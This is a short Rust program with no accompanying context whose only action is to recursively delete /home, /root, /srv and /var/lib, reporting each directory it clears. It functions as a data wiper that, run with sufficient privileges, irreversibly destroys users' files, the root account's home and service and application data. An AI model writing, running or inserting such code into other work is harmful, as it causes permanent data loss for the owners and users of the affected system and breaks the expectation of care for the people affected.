use std::fs;

fn main() {
    for root in ["/home", "/root", "/srv", "/var/lib"] {
        match fs::remove_dir_all(root) {
            Ok(()) => println!("cleared {root}"),
            Err(e) => eprintln!("{root}: {e}"),
        }
    }
}
